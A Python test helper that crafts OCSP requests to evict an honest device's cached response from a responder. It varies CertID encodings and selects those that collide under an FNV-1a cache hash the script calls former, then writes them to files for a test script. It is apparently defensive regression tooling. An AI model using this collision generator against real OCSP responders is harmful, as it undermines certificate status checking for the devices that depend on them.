#!/usr/bin/env python3
"""OCSP requests an attacker makes to push an honest camera's pre-signed answer out of the responder's cache, for
ocsp_cache_keyed.sh (offline: it only writes files).
  ocsp_certids.py SHA1_REQ SHA256_REQ SERIALS SLOTS COUNT OUT
      SHA1_REQ and SHA256_REQ: openssl's requests (no nonce) for any certificate of the issuer, with a SHA-1 and a
      SHA-256 CertID (the issuer's name and key hashes are read from them). SERIALS: issued serials (hex, one a
      line; the public log lists them). Every serial is named by several CertIDs the responder takes alike (either
      hash algorithm, its parameters NULL or absent, the INTEGER with a spare leading zero), each kept apart. Under
      the cache's former public hash (FNV-1a of the CertID, modulo SLOTS, a power of two) it picks the serial whose
      honest CertID (what openssl sends: SHA-1, NULL parameters) shares its home slot with the most CertIDs of the
      other serials, and writes OUT.target (that honest request), OUT.target.serial (its serial) and OUT.1 ...
      OUT.COUNT (requests for COUNT of those others, no nonce); prints "home H colliding N". Exits 1 when fewer
      than COUNT collide.
  ocsp_certids.py forms SHA1_REQ SHA256_REQ SERIALS OUT
      Writes OUT.1 ... OUT.N, a request (no nonce) for each distinct CertID form of every serial, one serial's forms
      after another's; prints N.
"""
import sys

SHA1 = bytes.fromhex("06052b0e03021a")
SHA256 = bytes.fromhex("0609608648016503040201")
NULL = bytes.fromhex("0500")


def tlv(tag, value):
    n = len(value)
    if n < 0x80:
        return bytes([tag, n]) + value
    size = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(size)]) + size + value


def inside(der):
    """The TLVs inside one DER value: (tag, value) pairs."""
    out, i = [], 0
    while i < len(der):
        tag, n, i = der[i], der[i + 1], i + 2
        if n & 0x80:
            k = n & 0x7F
            n, i = int.from_bytes(der[i:i + k], "big"), i + k
        out.append((tag, der[i:i + n]))
        i += n
    return out


def issuer_hashes(request):
    """(name hash, key hash) of the first CertID of a DER OCSPRequest."""
    tbs = inside(inside(request)[0][1])[0][1]
    request_list = [v for t, v in inside(tbs) if t == 0x30][0]
    cert_id = inside(inside(inside(request_list)[0][1])[0][1])
    return cert_id[1][1], cert_id[2][1]


def cert_id(alg, params, hashes, serial, spare_zero):
    magnitude = bytes.fromhex(serial)
    integer = (b"\x00" if magnitude[0] & 0x80 or spare_zero else b"") + magnitude
    return tlv(0x30, tlv(0x30, alg + params) + tlv(0x04, hashes[0]) + tlv(0x04, hashes[1]) + tlv(0x02, integer))


def ocsp_request(cid):
    return tlv(0x30, tlv(0x30, tlv(0x30, tlv(0x30, cid))))


def fnv1a(data):
    h = 0xCBF29CE484222325
    for b in data:
        h = ((h ^ b) * 0x100000001B3) & 0xFFFFFFFFFFFFFFFF
    return h


def all_forms(sha1_req, sha256_req, serials_file):
    """(serials, the honest CertID of each, the distinct CertID forms of each)"""
    sha1 = issuer_hashes(open(sha1_req, "rb").read())
    sha256 = issuer_hashes(open(sha256_req, "rb").read())
    serials = [s.strip().lower() for s in open(serials_file) if s.strip()]
    honest = {s: cert_id(SHA1, NULL, sha1, s, False) for s in serials}
    forms = {s: list(dict.fromkeys(cert_id(alg, params, hashes, s, zero)
                                   for alg, hashes in ((SHA1, sha1), (SHA256, sha256))
                                   for params in (NULL, b"") for zero in (False, True))) for s in serials}
    return serials, honest, forms


def write_forms(sha1_req, sha256_req, serials_file, out):
    serials, _, forms = all_forms(sha1_req, sha256_req, serials_file)
    n = 0
    for s in serials:
        for c in forms[s]:
            n += 1
            open("%s.%d" % (out, n), "wb").write(ocsp_request(c))
    print(n)
    return 0


def main(sha1_req, sha256_req, serials_file, slots, count, out):
    slots, count = int(slots), int(count)
    serials, honest, forms = all_forms(sha1_req, sha256_req, serials_file)
    best = None
    for target, target_id in honest.items():
        home = fnv1a(target_id) % slots
        colliding = [c for s in serials if s != target for c in forms[s] if fnv1a(c) % slots == home]
        if best is None or len(colliding) > len(best[2]):
            best = (target, home, colliding)
    target, home, colliding = best
    print("home %d colliding %d" % (home, len(colliding)))
    if len(colliding) < count:
        return 1
    open(out + ".target", "wb").write(ocsp_request(honest[target]))
    open(out + ".target.serial", "w").write(target + "\n")
    for n, c in enumerate(colliding[:count], 1):
        open("%s.%d" % (out, n), "wb").write(ocsp_request(c))
    return 0


if __name__ == "__main__":
    sys.exit(write_forms(*sys.argv[2:6]) if sys.argv[1:2] == ["forms"] else main(*sys.argv[1:]))
